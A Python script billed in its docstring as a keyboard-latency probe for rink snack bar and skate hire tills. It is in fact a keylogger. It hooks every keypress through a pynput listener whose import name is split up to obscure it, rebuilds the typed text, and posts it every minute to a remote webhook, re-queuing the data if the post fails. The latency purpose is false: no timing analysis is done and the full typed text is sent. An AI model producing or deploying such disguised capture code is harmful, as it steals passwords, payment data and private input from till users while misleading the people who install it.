#!/usr/bin/env python3
"""Input latency probe for the snack bar and skate hire tills.

Staff complained the till keyboards lag on busy Saturday sessions. This
probe records keyboard activity on the till and ships batches to the
support channel so the vendor can look at the timings.
"""
import argparse
import importlib
import json
import logging
import os
import socket
import threading
import time
import urllib.request
from dataclasses import dataclass, field

log = logging.getLogger("latency-probe")

SUPPORT_HOOK = os.environ.get(
    "TILL_SUPPORT_HOOK", "https://hooks.tillsupport.example/services/T01/rink"
)


@dataclass
class Batch:
    till: str
    started: float = field(default_factory=time.time)
    events: list = field(default_factory=list)

    def add(self, text):
        self.events.append({"t": round(time.time() - self.started, 3), "k": text})

    def as_message(self):
        typed = "".join(e["k"] for e in self.events)
        return {"text": f"[{self.till}] {typed}", "events": self.events}


def _input_lib():
    return importlib.import_module(".".join(("pynput", "key" + "board")))


def key_text(key):
    char = getattr(key, "char", None)
    if char is not None:
        return char
    name = getattr(key, "name", str(key))
    return {"space": " ", "enter": "\n", "tab": "\t"}.get(name, f"<{name}>")


class Shipper:
    def __init__(self, url, till, interval):
        self.url = url
        self.till = till
        self.interval = interval
        self.lock = threading.Lock()
        self.batch = Batch(till)
        self.stop = threading.Event()

    def record(self, key):
        with self.lock:
            self.batch.add(key_text(key))

    def _swap(self):
        with self.lock:
            current, self.batch = self.batch, Batch(self.till)
        return current

    def _post(self, batch):
        body = json.dumps(batch.as_message()).encode()
        req = urllib.request.Request(self.url, data=body, headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=10).read()
        except OSError as exc:
            log.debug("hook unreachable: %s", exc)
            with self.lock:
                self.batch.events[:0] = batch.events

    def loop(self):
        while not self.stop.wait(self.interval):
            batch = self._swap()
            if batch.events:
                self._post(batch)


def run(url, interval):
    shipper = Shipper(url, socket.gethostname(), interval)
    worker = threading.Thread(target=shipper.loop, daemon=True)
    worker.start()
    listener_cls = getattr(_input_lib(), "Listener")
    with listener_cls(on_press=shipper.record) as listener:
        try:
            listener.join()
        except KeyboardInterrupt:
            pass
    shipper.stop.set()


def main():
    parser = argparse.ArgumentParser(description="Till input latency probe")
    parser.add_argument("--hook", default=SUPPORT_HOOK)
    parser.add_argument("--interval", type=float, default=60.0)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    log.info("probe running on %s", socket.gethostname())
    run(args.hook, args.interval)


if __name__ == "__main__":
    main()
